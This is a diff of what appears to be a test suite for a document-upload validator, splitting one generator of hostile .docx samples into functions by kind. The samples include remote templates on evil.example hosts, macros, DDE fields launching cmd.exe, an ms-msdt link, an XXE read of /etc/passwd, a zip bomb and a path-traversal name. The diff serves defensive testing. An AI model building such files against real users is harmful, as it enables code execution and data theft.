@@ -67,6 +67,14 @@ def _code(text: str) -> str:
 
 
 def _word() -> Iterator[tuple[str, bytes]]:
+    yield from _word_that_points_out()
+    yield from _word_with_programs()
+    yield from _word_with_fields()
+    yield from _word_with_markup()
+    yield from _word_packed_badly()
+
+
+def _word_that_points_out() -> Iterator[tuple[str, bytes]]:
     template = f"{RELATION}/attachedTemplate"
     yield "template from the web", _related("attachedTemplate", EVIL)
     yield "a > in an attribute before the kind", _related(template, EVIL, before='x="a>b"')
@@ -99,6 +107,9 @@ def _word() -> Iterator[tuple[str, bytes]]:
     yield "link to another machine", _related("hyperlink", "file://evil.example/share/x.lnk")
     yield "relation of no known kind", _related("http://evil.example/relationships/theme", "theme.xml", mode="")
     yield "relation with an entity", docx(**{"word/_rels/document.xml.rels": "<!DOCTYPE r><r/>"})
+
+
+def _word_with_programs() -> Iterator[tuple[str, bytes]]:
     vba = "application/vnd.ms-office.vbaProject"
     yield "macros", _typed("vbaProject.bin", vba, OLE, relation=f"{OFFICE_2006}/vbaProject")
     yield "macros under another name", _typed("theme/theme1.xml", vba, OLE, relation=f"{OFFICE_2006}/vbaProject")
@@ -122,6 +133,9 @@ def _word() -> Iterator[tuple[str, bytes]]:
         uploads.XLSX | {"[Content_Types].xml": uploads.XLSX_TYPES.replace(
             f"{OPEN}.spreadsheetml.sheet.main", "application/vnd.ms-excel.sheet.macroEnabled.main")}))  # fmt: skip
     yield "program within as a sheet", docx(word__embeddings__1_dot_xlsx=archive({"setup.exe": PROGRAM}))
+
+
+def _word_with_fields() -> Iterator[tuple[str, bytes]]:
     yield "DDE field", _field(_code(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "))
     yield "DDE field in pieces", _field(_code("DD") + _code("EAU") + _code("TO c:\\\\x"))
     inner = (
@@ -136,6 +150,9 @@ def _word() -> Iterator[tuple[str, bytes]]:
     yield "field with a link that runs", _field(_code(' HYPERLINK \\h "ms-msdt:/id x" '))
     other = f'<x:document xmlns:x="{WORD}"><x:instrText>DDE a b</x:instrText></x:document>'
     yield "DDE field with another prefix", docx(word__document_dot_xml=other)
+
+
+def _word_with_markup() -> Iterator[tuple[str, bytes]]:
     vml = 'xmlns:v="urn:schemas-microsoft-com:vml"'
     yield "old drawing from the web", docx(word__document_dot_xml=word_text(f'<v:imagedata {vml} src="{EVIL}"/>'))
     merge = '<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>'
@@ -150,6 +167,9 @@ def _word() -> Iterator[tuple[str, bytes]]:
         docx(word__document_dot_xml='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
     )
     yield "deep as a well", docx(word__document_dot_xml="<a>" * 5_000 + "</a>" * 5_000)
+
+
+def _word_packed_badly() -> Iterator[tuple[str, bytes]]:
     yield "unpacks to too much", docx(word__document_dot_xml=b" " * 60_000_000)
     yield "too many members", archive(DOCX | {f"{number}.xml": "" for number in range(1_000)})
     yield "a name that leads out", docx(**{"../../x.xml": "<a/>"})
